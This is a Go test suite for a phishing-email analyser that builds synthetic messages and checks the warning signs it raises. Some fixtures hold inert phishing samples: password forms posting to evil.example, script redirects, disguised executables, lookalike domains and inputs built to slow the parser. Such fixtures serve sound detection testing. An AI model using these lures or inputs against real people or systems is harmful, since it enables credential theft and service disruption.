package phish

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/handwash/handwash"
)

// file is an attachment for a synthetic message.
type file struct {
	name, contentType string
	data              []byte
}

// build writes a message with the given header lines and body. With files
// it is multipart/mixed, the body a text/html part when it starts with "<"
// and text/plain otherwise.
func build(headers []string, body string, files ...file) []byte {
	var b bytes.Buffer
	for _, h := range headers {
		b.WriteString(h + "\r\n")
	}
	bodyType := "text/plain; charset=utf-8"
	if strings.HasPrefix(body, "<") {
		bodyType = "text/html; charset=utf-8"
	}
	if len(files) == 0 {
		b.WriteString("MIME-Version: 1.0\r\nContent-Type: " + bodyType + "\r\n\r\n" + body + "\r\n")
		return b.Bytes()
	}
	b.WriteString("MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"BOUNDARY\"\r\n\r\n")
	b.WriteString("--BOUNDARY\r\nContent-Type: " + bodyType + "\r\n\r\n" + body + "\r\n")
	for _, f := range files {
		ct := f.contentType
		if ct == "" {
			ct = "application/octet-stream"
		}
		fmt.Fprintf(&b, "--BOUNDARY\r\nContent-Type: %s\r\nContent-Disposition: attachment; filename=\"%s\"\r\nContent-Transfer-Encoding: base64\r\n\r\n", ct, f.name)
		enc := base64.StdEncoding.EncodeToString(f.data)
		for len(enc) > 76 {
			b.WriteString(enc[:76] + "\r\n")
			enc = enc[76:]
		}
		b.WriteString(enc + "\r\n")
	}
	b.WriteString("--BOUNDARY--\r\n")
	return b.Bytes()
}

// plain is a harmless message from a care home's supplier, the base most
// cases change one thing in.
var plain = []string{
	"Received: from mail.supplier.example (mail.supplier.example [192.0.2.10]) by mx.rosecourt.example; Tue, 4 Mar 2025 10:00:05 +0000",
	"From: Jo Bloggs <jo@supplier.example>",
	"To: manager@rosecourt.example",
	"Subject: Delivery on Thursday",
	"Date: Tue, 4 Mar 2025 10:00:00 +0000",
	"Message-ID: <1@supplier.example>",
}

func with(headers []string, extra ...string) []string {
	out := slices.Clone(headers)
	for _, e := range extra {
		name, _, _ := strings.Cut(e, ":")
		if i := slices.IndexFunc(out, func(h string) bool { return strings.HasPrefix(h, name+":") }); i >= 0 && name != "Received" && name != "Authentication-Results" {
			out[i] = e
			continue
		}
		out = append([]string{e}, out...)
	}
	return out
}

func peFile() []byte {
	b := make([]byte, 0x100)
	copy(b, "MZ")
	b[0x3c] = 0x80
	copy(b[0x80:], "PE\x00\x00")
	return b
}

func zipOf(t *testing.T, encrypted bool, entries ...file) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, e := range entries {
		h := &zip.FileHeader{Name: e.name, Method: zip.Deflate}
		if encrypted {
			// archive/zip cannot encrypt, but the flag is all that
			// marks an entry as locked.
			h.Flags |= 0x1
		}
		w, err := zw.CreateHeader(h)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(e.data)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func gzipOf(t *testing.T, name string, data []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	zw.Name = name
	zw.Write(data)
	zw.Close()
	return buf.Bytes()
}

// dkimSigned returns header lines carrying a DKIM signature whose body hash
// is that of signedBody; the signature itself is not valid, which does not
// matter with DNS off.
func dkimSigned(domain, signedBody, canon string) string {
	var c []byte
	if canon == "relaxed" {
		c = relaxedBody([]byte(signedBody))
	} else {
		c = simpleBody([]byte(signedBody))
	}
	sum := sha256.Sum256(c)
	return fmt.Sprintf("DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/%s; d=%s; s=sel; h=from:to:subject; bh=%s; b=AAAA", canon, domain, base64.StdEncoding.EncodeToString(sum[:]))
}

func analyseT(t *testing.T, raw []byte, opts Options) *Report {
	t.Helper()
	r, err := Analyse(context.Background(), raw, opts)
	if err != nil {
		t.Fatalf("Analyse: %v", err)
	}
	return r
}

func signIDs(r *Report) []string {
	var ids []string
	for _, s := range r.Signs {
		ids = append(ids, fmt.Sprintf("%s:%d", s.ID, s.Weight))
	}
	return ids
}

func findSign(r *Report, id string) *Sign {
	for i := range r.Signs {
		if r.Signs[i].ID == id {
			return &r.Signs[i]
		}
	}
	return nil
}

var rosecourt = Options{OrgName: "Rose Court Care Home", OrgDomains: []string{"rosecourt.example"}}

// signCase is one synthetic message and the sign it must (or must not)
// raise.
type signCase struct {
	name   string
	raw    []byte
	opts   Options
	want   string // sign ID that must be present; "" for none at all
	weight int    // if not 0, the weight it must have
	not    string // sign ID that must be absent
}

func signCases(t *testing.T) []signCase {
	html := func(s string) string { return "<html><body>" + s + "</body></html>" }
	return []signCase{
		{name: "plain message raises nothing", raw: build(plain, "See you Thursday at 10. Jo"), want: ""},
		{name: "own links raise nothing", raw: build(plain, html(`<p>Track it at <a href="https://www.supplier.example/track?id=1">www.supplier.example/track</a> or sign in at https://portal.supplier.example/login.php</p>`)), want: ""},

		// Authentication.
		{name: "dmarc fail at the receiving server", raw: build(with(plain, "Authentication-Results: mx.rosecourt.example; dkim=none; spf=pass smtp.mailfrom=supplier.example; dmarc=fail (p=reject) header.from=supplier.example"), "Hi"), want: "auth.dmarc-fail", weight: 5},
		{name: "microsoft compauth fail", raw: build(with(plain, "Authentication-Results: spf=fail (sender IP is 192.0.2.9) smtp.mailfrom=supplier.example; dkim=none (message not signed) header.d=none;dmarc=none action=none header.from=supplier.example;compauth=fail reason=001"), "Hi"), want: "auth.dmarc-fail", weight: 5},
		{name: "a fail written lower down by the sender is not believed", raw: build(with(plain, "Authentication-Results: evil.example; dmarc=fail header.from=supplier.example", "Authentication-Results: mx.rosecourt.example; dmarc=pass header.from=supplier.example"), "Hi"), not: "auth.dmarc-fail"},
		{name: "named trusted server", raw: build(with(plain, "Authentication-Results: mx.rosecourt.example; dmarc=fail header.from=supplier.example", "Authentication-Results: filter.rosecourt.example; dmarc=pass header.from=supplier.example"), "Hi"), opts: Options{AuthServIDs: []string{"mx.rosecourt.example"}}, want: "auth.dmarc-fail"},
		{name: "received-spf fail", raw: build(with(plain, "Received-SPF: Fail (mx.rosecourt.example: domain of jo@supplier.example does not designate 198.51.100.7 as permitted sender) client-ip=198.51.100.7;"), "Hi"), want: "auth.spf-fail", weight: 2},
		{name: "spf fail with semicolons in a comment", raw: build(with(plain, "Authentication-Results: mx.rosecourt.example; spf=softfail (domain; of transitioning) smtp.mailfrom=supplier.example"), "Hi"), want: "auth.spf-fail", weight: 1},
		{name: "body changed after signing", raw: build(with(plain, dkimSigned("supplier.example", "Please pay invoice 1234 to our usual account.\r\n", "simple")), "Please pay invoice 1234 to our NEW account."), want: "auth.dkim-fail", weight: 3},
		{name: "intact relaxed body is not a failure", raw: build(with(plain, dkimSigned("supplier.example", "See you   Thursday. \r\n\r\n", "relaxed")), "See you Thursday."), want: ""},
		{name: "unsigned mail through gmail's servers", raw: build(with(plain, "Received: from PC ([2001:db8::1]) by smtp.gmail.com with ESMTPSA id x1; Tue, 4 Mar 2025 10:00:01 +0000"), "Hi"), want: "auth.unsigned-via-free-mail"},

		// Sender.
		{name: "nhs name on gmail", raw: build(with(plain, `From: "NHS Payroll" <nhs.payroll.team@gmail.com>`), "Hi"), want: "sender.display-name-brand", weight: 5},
		{name: "bank name on an unrelated domain", raw: build(with(plain, `From: Barclays Security <alerts@secure-notice.example>`), "Hi"), want: "sender.display-name-brand", weight: 3},
		{name: "greek letters spelling NHS", raw: build(with(plain, "From: =?utf-8?b?zp3Ol1M=?= <x@gmail.com>"), "Hi"), want: "sender.display-name-brand"},
		{name: "the real nhs", raw: build(with(plain, `From: "NHS England" <england.contactus@nhs.net>`), "Hi"), not: "sender.display-name-brand"},
		{name: "a care home in Halifax is not the bank", raw: build(with(plain, `From: "Halifax Care Services" <office@halifaxcare.example>`), "Hi"), want: ""},
		{name: "own organisation's name from outside", raw: build(with(plain, `From: "Rose Court Care Home - Manager" <rosecourt.manager@outlook.com>`), "Hi"), opts: rosecourt, want: "sender.display-name-own-org", weight: 5},
		{name: "own organisation's name from inside", raw: build(with(plain, `From: "Rose Court Care Home" <office@rosecourt.example>`), "Hi"), opts: rosecourt, not: "sender.display-name-own-org"},
		{name: "address in the display name", raw: build(with(plain, `From: "accounts@supplier.example" <someone@mailer.example>`), "Hi"), want: "sender.display-name-address", weight: 3},
		{name: "lookalike sender with a digit", raw: build(with(plain, `From: Barclays <alerts@barc1ays.co.uk>`), "Hi"), want: "sender.lookalike-domain", weight: 6},
		{name: "lookalike of own domain", raw: build(with(plain, `From: Office <office@r0secourt.example>`), "Hi"), opts: rosecourt, want: "sender.lookalike-domain"},
		{name: "reply-to a free mail account", raw: build(with(plain, "Reply-To: supplier.accounts@gmail.com"), "Hi"), want: "sender.reply-to-differs", weight: 3},
		{name: "reply-to another organisation", raw: build(with(plain, "Reply-To: accounts@other.example"), "Hi"), want: "sender.reply-to-differs", weight: 2},
		{name: "reply-to a mailing list", raw: build(with(plain, "Reply-To: carers@lists.example", "List-Post: <mailto:carers@lists.example>"), "Hi"), want: ""},
		{name: "return path at gmail", raw: build(with(plain, "Return-Path: <jo.bloggs1977@gmail.com>"), "Hi"), want: "sender.return-path-differs", weight: 2},
		{name: "from gmail", raw: build(with(plain, "From: Jo <jo.bloggs@gmail.com>"), "Hi"), want: "sender.free-mail", weight: 1},

		// Header lines.
		{name: "two From lines", raw: build(append(slices.Clone(plain), "From: Someone <a@other.example>"), "Hi"), want: "header.duplicate", weight: 3},
		{name: "dated years before it arrived", raw: build(with(plain, "Date: Mon, 08 Jun 2009 12:00:00 +0000"), "Hi"), want: "header.date-mismatch"},
		{name: "dated in the future", raw: build(with(plain, "Date: Mon, 08 Jun 2099 12:00:00 +0000"), "Hi"), want: "header.date-mismatch"},

		// Links.
		{name: "link text shows the bank", raw: build(plain, html(`<a href="https://evil.example/x">https://www.barclays.co.uk/login</a>`)), want: "link.text-mismatch", weight: 4},
		{name: "tracking link of a signed newsletter", raw: build(with(plain, dkimSigned("news.example", "<html><body><a href=\"https://click.news.example/c/1\">www.supplier.example</a></body></html>\r\n", "simple")), html(`<a href="https://click.news.example/c/1">www.supplier.example</a>`)), want: "link.text-mismatch", weight: 1},
		{name: "link to a lookalike", raw: build(plain, html(`<a href="https://natwest-secure.example/">Check your account</a>`)), want: "link.lookalike-domain", weight: 5},
		{name: "link with the real domain first", raw: build(plain, "Go to https://login.microsoftonline.com.account-check.example/ now"), want: "link.lookalike-domain"},
		{name: "link to an ip address", raw: build(plain, "Open http://192.0.2.44/invoice"), want: "link.ip-address", weight: 3},
		{name: "link to a decimal ip address", raw: build(plain, "Open http://3221226028/invoice"), want: "link.ip-address"},
		{name: "safe links are unwrapped", raw: build(plain, html(`<a href="https://eur01.safelinks.protection.outlook.com/?url=http%3A%2F%2F192.0.2.44%2Finvoice&amp;data=1">invoice</a>`)), want: "link.ip-address"},
		{name: "link with a name before @", raw: build(plain, "Open http://www.barclays.co.uk@evil.example/"), want: "link.userinfo"},
		{name: "short link", raw: build(plain, "Open https://bit.ly/3xYz"), want: "link.shortener", weight: 2},
		{name: "google redirect", raw: build(plain, "Open https://www.google.com/url?q=https://192.0.2.44/&sa=D"), want: "link.redirect"},
		{name: "redirect target is checked too", raw: build(plain, "Open https://www.google.com/url?q=https://192.0.2.44/&sa=D"), want: "link.ip-address"},
		{name: "unusual ending", raw: build(plain, "Open https://invoice-portal.top/"), want: "link.unusual-tld", weight: 1},
		{name: "sign-in page elsewhere", raw: build(plain, "Sign in at https://files.other.example/account/signin.php"), want: "link.sign-in-page", weight: 2},
		{name: "fake microsoft sign-in", raw: build(plain, "Sign in at https://bakery.example/office365/auth.php"), want: "link.fake-sign-in", weight: 4},
		{name: "real microsoft sign-in", raw: build(plain, "Sign in at https://login.microsoftonline.com/common/oauth2/authorize"), not: "link.fake-sign-in"},
		{name: "page in wordpress folders", raw: build(plain, "See https://bakery.example/wp-content/plugins/x/doc.php"), want: "link.compromised-site", weight: 2},
		{name: "picture in wordpress folders", raw: build(plain, "See https://bakery.example/wp-content/uploads/2025/01/cake.jpg"), want: ""},
		{name: "javascript link", raw: build(plain, html(`<a href="javascript:window.location='http://evil.example'">Open</a>`)), want: "link.script", weight: 3},

		// Forms.
		{name: "password form", raw: build(plain, html(`<form action="https://evil.example/p.php" method="post"><input type="email" name="u"><input type="password" name="p"></form>`)), want: "html.password-form", weight: 5},
		{name: "form posting elsewhere", raw: build(plain, html(`<form action="https://evil.example/p.php"><input name="card"></form>`)), want: "html.form", weight: 3},

		// Attachments.
		{name: "program named as a pdf", raw: build(plain, "Invoice attached", file{"invoice.pdf", "application/pdf", peFile()}), want: "attachment.executable", weight: 8},
		{name: "program named as a pdf is disguised", raw: build(plain, "Invoice attached", file{"invoice.pdf", "application/pdf", peFile()}), want: "attachment.disguised"},
		{name: "text starting MZ is not a program", raw: build(plain, "Notes", file{"notes.txt", "text/plain", []byte("MZ notes from the meeting, which go on for a while so that this is long enough to have a header")}), want: ""},
		{name: "script", raw: build(plain, "Invoice attached", file{"invoice.js", "application/javascript", []byte("var s = new ActiveXObject('WScript.Shell');")}), want: "attachment.script", weight: 8},
		{name: "shortcut", raw: build(plain, "Invoice attached", file{"invoice.lnk", "", append([]byte{0x4c, 0, 0, 0, 1, 0x14, 2, 0}, make([]byte, 64)...)}), want: "attachment.script"},
		{name: "html attachment", raw: build(plain, "Statement attached", file{"statement.htm", "text/html", []byte("<html><body><form><input type=password></form></body></html>")}), want: "attachment.html", weight: 5},
		{name: "html attachment named as text", raw: build(plain, "Statement attached", file{"statement.txt", "text/plain", []byte("<!DOCTYPE html><html><script>location='http://evil.example'</script></html>")}), want: "attachment.html"},
		{name: "disk image", raw: build(plain, "Invoice attached", file{"invoice.dat", "", append(make([]byte, 0x8001), []byte("CD001")...)}), want: "attachment.disk-image", weight: 6},
		{name: "vhd", raw: build(plain, "Invoice attached", file{"invoice.vhd", "", append([]byte("conectix"), make([]byte, 504)...)}), want: "attachment.disk-image"},
		{name: "word file with macros", raw: build(plain, "Form attached", file{"form.docx", "", zipOf(t, false, file{name: "[Content_Types].xml", data: []byte("<Types/>")}, file{name: "word/vbaProject.bin", data: []byte("x")})}), want: "attachment.macro", weight: 6},
		{name: "word file without macros", raw: build(plain, "Form attached", file{"form.docx", "", zipOf(t, false, file{name: "[Content_Types].xml", data: []byte("<Types/>")}, file{name: "word/document.xml", data: []byte("<w/>")})}), want: ""},
		{name: "old excel file with macros", raw: build(plain, "Form attached", file{"form.xls", "", append([]byte{0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1}, utf16("_VBA_PROJECT")...)}), want: "attachment.macro"},
		{name: "program in a zip", raw: build(plain, "Docs attached", file{"docs.zip", "application/zip", zipOf(t, false, file{name: "scan.pdf.exe", data: peFile()})}), want: "attachment.executable"},
		{name: "script in a zip in a zip", raw: build(plain, "Docs attached", file{"docs.zip", "application/zip", zipOf(t, false, file{name: "inner.zip", data: zipOf(t, false, file{name: "run.vbs", data: []byte("MsgBox 1")})})}), want: "attachment.script"},
		{name: "locked zip", raw: build(plain, "Password: 1234", file{"docs.zip", "application/zip", zipOf(t, true, file{name: "scan.pdf", data: []byte("%PDF-1.4")})}), want: "attachment.encrypted-archive", weight: 4},
		{name: "program in a locked zip, by name", raw: build(plain, "Password: 1234", file{"docs.zip", "application/zip", zipOf(t, true, file{name: "scan.exe", data: []byte("x")})}), want: "attachment.executable"},
		{name: "rar", raw: build(plain, "Docs attached", file{"docs.rar", "", []byte("Rar!\x1a\x07\x01\x00rest")}), want: "attachment.archive", weight: 2},
		{name: "program in a gzip", raw: build(plain, "Docs attached", file{"docs.gz", "", gzipOf(t, "docs.exe", peFile())}), want: "attachment.executable"},
		{name: "pdf with javascript", raw: build(plain, "Invoice attached", file{"invoice.pdf", "application/pdf", []byte("%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>")}), want: "attachment.pdf-active", weight: 3},
		{name: "ordinary pdf", raw: build(plain, "Invoice attached", file{"invoice.pdf", "application/pdf", []byte("%PDF-1.4\n1 0 obj << /Type /Catalog >>")}), want: ""},

		// Wording.
		{name: "urgency", raw: build(plain, "URGENT: please act now or your account will be suspended."), want: "language.urgency", weight: 2},
		{name: "urgent is a word, not part of one", raw: build(plain, "The insurgents film is on tonight."), want: ""},
		{name: "bank change", raw: build(plain, "Please note our new bank details,\r\nsort code 01-02-03."), want: "language.payment-change", weight: 3},
		{name: "credential lure", raw: build(plain, "Your mailbox is full. Verify your account to keep receiving mail."), want: "language.credential-lure", weight: 2},
		{name: "phrases in html", raw: build(plain, html(`<p>Please <b>verify</b> your&nbsp;account</p>`)), want: "language.credential-lure"},

		// Structure.
		{name: "broken base64", raw: []byte(strings.Join(plain, "\r\n") + "\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\nContent-Type: text/plain\r\n\r\nHi\r\n--B\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename=a.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\nQUJDR\r\n--B--\r\n"), want: "mime.malformed", weight: 1},
	}
}

// TestSigns checks each rule with a small message written for it, and that
// every sign in the catalogue has a case.
func TestSigns(t *testing.T) {
	covered := map[string]bool{}
	for _, c := range signCases(t) {
		t.Run(c.name, func(t *testing.T) {
			r := analyseT(t, c.raw, c.opts)
			for _, s := range r.Signs {
				if _, ok := catalogue[s.ID]; !ok || s.Title == "" {
					t.Errorf("sign %s has no catalogue entry", s.ID)
				}
			}
			switch {
			case c.want == "" && c.not == "":
				if len(r.Signs) != 0 {
					t.Errorf("got signs %v, want none", signIDs(r))
				}
			case c.want != "":
				s := findSign(r, c.want)
				if s == nil {
					t.Fatalf("got signs %v, want %s", signIDs(r), c.want)
				}
				covered[c.want] = true
				if c.weight != 0 && s.Weight != c.weight {
					t.Errorf("%s weight = %d, want %d (%s)", c.want, s.Weight, c.weight, s.Explanation)
				}
				if len(s.Evidence) == 0 {
					t.Errorf("%s has no evidence", c.want)
				}
			}
			if c.not != "" && findSign(r, c.not) != nil {
				t.Errorf("got signs %v, want no %s", signIDs(r), c.not)
			}
		})
	}
	for id := range catalogue {
		if !covered[id] {
			t.Errorf("no test case raises %s", id)
		}
	}
}

func TestFindLookalike(t *testing.T) {
	protected := defaultBrandSet().protected
	for _, c := range []struct {
		host string
		want string // protected domain imitated, "" for none
	}{
		{"barc1ays.co.uk", "barclays.co.uk"},
		{"b\u0430rclays.co.uk", "barclays.co.uk"}, // Cyrillic а
		{punycode(t, "b\u0430rclays.co.uk"), "barclays.co.uk"},
		{"barclays.net", "barclays.co.uk"},
		{"nhs-uk.com", "nhs.uk"},
		{"nhs.uk.com", "nhs.uk"},
		{"nhs-payroll.com", "nhs.uk"},
		{"secure.nhs.net.login.example", "nhs.net"},
		{"natwesst.com", "natwest.com"},
		{"rnicrosoft.com", "microsoft.com"},
		{"docusign.co", "docusign.com"},
		// Genuine and unrelated domains.
		{"england.nhs.uk", ""},
		{"mail.nhs.net", ""},
		{"barclays.com", ""},
		{"gov.scot", ""},
		{"nhsemployers.org", ""},
		{"supplier.example", ""},
		{"google.com", ""},
		{"tsbc.org", ""},
		{"192.0.2.1", ""},
	} {
		l, ok := findLookalike(c.host, protected)
		got := ""
		if ok {
			got = l.target.domain
		}
		if got != c.want {
			t.Errorf("findLookalike(%q) = %q (%s), want %q", c.host, got, l.how, c.want)
		}
	}
}

func punycode(t *testing.T, s string) string {
	t.Helper()
	p := normaliseHost(s)
	if !strings.HasPrefix(p, "xn--") {
		t.Fatalf("normaliseHost(%q) = %q, want an xn-- name", s, p)
	}
	return p
}

func TestLimits(t *testing.T) {
	ctx := context.Background()
	msg := build(plain, strings.Repeat("x", 2000))
	if _, err := Analyse(ctx, msg, Options{MaxSize: 1000}); handwash.ErrorCode(err) != handwash.ETOOLARGE {
		t.Errorf("over MaxSize: got %v, want a %s error", err, handwash.ETOOLARGE)
	}
	if _, err := Analyse(ctx, []byte(" \r\n\r\n"), Options{}); handwash.ErrorCode(err) != handwash.EINVALID {
		t.Errorf("empty: got %v, want a %s error", err, handwash.EINVALID)
	}
	var nested bytes.Buffer
	nested.WriteString("From: a@b.example\r\n")
	for i := range maxMultipart + 5 {
		fmt.Fprintf(&nested, "Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n", i, i)
	}
	if _, err := Analyse(ctx, nested.Bytes(), Options{}); handwash.ErrorCode(err) != handwash.ETOOLARGE {
		t.Errorf("deeply nested: got %v, want a %s error", err, handwash.ETOOLARGE)
	}
	cancelled, cancel := context.WithCancel(ctx)
	cancel()
	if _, err := Analyse(cancelled, msg, Options{}); err == nil {
		t.Error("cancelled context: got no error")
	}
	// A message at the limit is analysed.
	if _, err := Analyse(ctx, msg, Options{MaxSize: len(msg)}); err != nil {
		t.Errorf("at MaxSize: %v", err)
	}
}

// TestBrokenMessages checks that mail too broken to parse as MIME is still
// judged on what can be read.
func TestBrokenMessages(t *testing.T) {
	for _, raw := range []string{
		"From: \"NHS\" <nhs@gmail.com>\nContent-Type: multipart/mixed\n\nno boundary http://192.0.2.1/",
		"From: \"NHS\" <nhs@gmail.com>\nContent-Type: text/html; charset=unknown-8bit\n\n<a href=http://192.0.2.1/>x",
		"just some text http://192.0.2.1/ with no header at all",
		"From: \"NHS\" <nhs@gmail.com\nTo: <<<\n\nbroken addresses",
	} {
		r := analyseT(t, []byte(raw), Options{})
		if len(r.Signs) == 0 {
			t.Errorf("%q: no signs found", raw)
		}
	}
}

func TestReportJSON(t *testing.T) {
	r := analyseT(t, build(with(plain, `From: "NHS Payroll" <nhs.payroll.team@gmail.com>`), "Urgent: verify your account at http://192.0.2.1/login"), Options{})
	b, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	var back map[string]any
	if err := json.Unmarshal(b, &back); err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{"verdict", "score", "summary", "from", "subject", "signs", "advice"} {
		if _, ok := back[k]; !ok {
			t.Errorf("JSON has no %q: %s", k, b)
		}
	}
	if back["verdict"] != string(VerdictPhishing) {
		t.Errorf("verdict = %v, want %q", back["verdict"], VerdictPhishing)
	}
	sign := back["signs"].([]any)[0].(map[string]any)
	for _, k := range []string{"id", "weight", "title", "explanation", "evidence"} {
		if _, ok := sign[k]; !ok {
			t.Errorf("sign JSON has no %q: %v", k, sign)
		}
	}
	clean := analyseT(t, build(plain, "Hi"), Options{})
	b, _ = json.Marshal(clean)
	if !strings.Contains(string(b), `"signs":[]`) {
		t.Errorf("a clean report should list no signs as [], got %s", b)
	}
}

func TestVerdicts(t *testing.T) {
	for _, c := range []struct {
		raw  []byte
		want Verdict
	}{
		{build(plain, "See you Thursday"), VerdictNone},
		{build(with(plain, "Reply-To: supplier.accounts@gmail.com"), "Hi"), VerdictSuspicious},
		{build(with(plain, `From: "NHS Payroll" <nhs.payroll.team@gmail.com>`), "Please verify your account at https://bakery.example/wp-admin/nhs/login.php"), VerdictPhishing},
	} {
		r := analyseT(t, c.raw, Options{})
		if r.Verdict != c.want {
			t.Errorf("verdict = %q (score %d, %v), want %q", r.Verdict, r.Score, signIDs(r), c.want)
		}
		if len(r.Advice) == 0 || r.Summary == "" {
			t.Errorf("verdict %q has no summary or advice", r.Verdict)
		}
		for _, a := range r.Advice {
			if strings.Contains(a, "report@phishing.gov.uk") {
				goto reported
			}
		}
		t.Errorf("advice for %q does not mention report@phishing.gov.uk", r.Verdict)
	reported:
	}
}

func TestDateUsesNowWithoutReceived(t *testing.T) {
	raw := build([]string{"From: a@supplier.example", "Date: Mon, 10 Mar 2025 12:00:00 +0000"}, "Hi")
	if r := analyseT(t, raw, Options{Now: time.Date(2025, 3, 1, 0, 0, 0, 0, time.UTC)}); findSign(r, "header.date-mismatch") == nil {
		t.Errorf("a message dated 9 days after now: got %v, want header.date-mismatch", signIDs(r))
	}
	if r := analyseT(t, raw, Options{Now: time.Date(2025, 3, 10, 13, 0, 0, 0, time.UTC)}); findSign(r, "header.date-mismatch") != nil {
		t.Errorf("a message dated an hour ago: got %v", signIDs(r))
	}
}

// hostileInputs are messages built to make the checks slow: before the
// limits in message.go and links.go, some of them took minutes.
func hostileInputs() map[string]string {
	const n = 2 << 20
	return map[string]string{
		"one long link": "From: a@b.example\r\n\r\nhttp://" + strings.Repeat("a.", n/2),
		"long href":     "From: a@b.example\r\nContent-Type: text/html\r\n\r\n<a href=\"http://" + strings.Repeat("a.", n/2) + "\">x</a>",
		"many links":    "From: a@b.example\r\nContent-Type: text/html\r\n\r\n" + strings.Repeat(`<a href="http://x.example/">www.y.example</a>`, n/45),
		"long name":     "From: \"" + strings.Repeat("nhs ", n/4) + "\" <a@b.example>\r\n\r\nhi",
		"many ats":      "From: " + strings.Repeat("a@", n/2) + "\r\n\r\nhi",
		"open comments": "Authentication-Results: x; " + strings.Repeat("(", n) + "\r\nFrom: a@b.example\r\n\r\nhi",
		"nested divs":   "From: a@b.example\r\nContent-Type: text/html\r\n\r\n" + strings.Repeat("<div>", n/5),
		"signatures":    strings.Repeat("DKIM-Signature: v=1; a=rsa-sha256; d=b.example; bh=AAAA; b=x\r\n", n/70) + "From: a@b.example\r\n\r\n",
	}
}

// TestHostileInputsFinish checks that each hostile message is analysed
// without an error. How long each takes is BenchmarkHostileInputs' to
// measure (docs/PERFORMANCE.md); a return to minutes would show there, and
// a hang here as the test binary's time limit.
func TestHostileInputsFinish(t *testing.T) {
	if testing.Short() {
		t.Skip("slow")
	}
	for name, raw := range hostileInputs() {
		if _, err := Analyse(context.Background(), []byte(raw), Options{}); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// TestGenuineMail checks messages shaped like the real mail a care home
// gets raise no more than minor signs.
func TestGenuineMail(t *testing.T) {
	newsletter := `<html><body><p>Our spring newsletter is here.</p>
<p><a href="https://url4821.carersnetwork.org.uk/ls/click?upn=abc">www.carersnetwork.org.uk/spring</a></p>
<p><a href="https://url4821.carersnetwork.org.uk/ls/click?upn=def">Unsubscribe</a></p></body></html>`
	for _, c := range []struct {
		name string
		raw  []byte
	}{
		{"newsletter through a mailing service", build([]string{
			"Authentication-Results: mx.rosecourt.example; spf=pass smtp.mailfrom=bounces+123@em4821.carersnetwork.org.uk; dkim=pass header.d=carersnetwork.org.uk; dmarc=pass header.from=carersnetwork.org.uk",
			"Received: from o1.sendgrid.example (o1.sendgrid.example [198.51.100.1]) by mx.rosecourt.example; Tue, 4 Mar 2025 10:00:05 +0000",
			"Return-Path: <bounces+123@em4821.carersnetwork.org.uk>",
			`From: "Carers Network" <news@carersnetwork.org.uk>`,
			"To: manager@rosecourt.example",
			"Subject: Spring newsletter",
			"Date: Tue, 4 Mar 2025 09:59:00 +0000",
			"List-Unsubscribe: <https://url4821.carersnetwork.org.uk/unsub>",
		}, newsletter)},
		{"Microsoft security notice", build([]string{
			`From: "Microsoft account team" <account-security-noreply@accountprotection.microsoft.com>`,
			"To: manager@rosecourt.example",
			"Subject: Microsoft account security info verification",
			"Date: Tue, 4 Mar 2025 09:59:00 +0000",
		}, `<html><body><p>Please use the following security code for the Microsoft account ma*****@rosecourt.example.</p><p>Security code: 123456</p><p>If you don't recognise the account, you can <a href="https://account.live.com/dp?id=1">click here</a> to remove your email address.</p></body></html>`)},
		{"colleague on NHSmail", build([]string{
			`From: "SMITH, Jo (NHS LEEDS WEST PCN)" <jo.smith12@nhs.net>`,
			"To: manager@rosecourt.example",
			"Subject: Flu clinic",
			"Date: Tue, 4 Mar 2025 09:59:00 +0000",
		}, "Hi, we can do the flu clinic next week. Please confirm the number of residents as soon as possible. Jo")},
		{"supplier invoice", build(plain, "Please find attached invoice 4471 for February. Payment is due within 30 days to our usual account.",
			file{"invoice-4471.pdf", "application/pdf", []byte("%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >>")})},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := analyseT(t, c.raw, rosecourt)
			if r.Verdict != VerdictNone {
				t.Errorf("verdict %q (score %d, %v), want %q", r.Verdict, r.Score, signIDs(r), VerdictNone)
			}
		})
	}
}

// TestConcurrent checks that analyses can run side by side, as a server
// checking an inbox does (run with -race).
func TestConcurrent(t *testing.T) {
	msgs := [][]byte{payrollScam(), build(plain, "Hi"), build(plain, "Docs", file{"docs.zip", "application/zip", zipOf(t, false, file{name: "a.exe", data: peFile()})})}
	done := make(chan error)
	for i := range 8 {
		go func() {
			var err error
			for j := range 20 {
				if _, e := Analyse(context.Background(), msgs[(i+j)%len(msgs)], rosecourt); e != nil {
					err = e
				}
			}
			done <- err
		}()
	}
	for range 8 {
		if err := <-done; err != nil {
			t.Error(err)
		}
	}
}
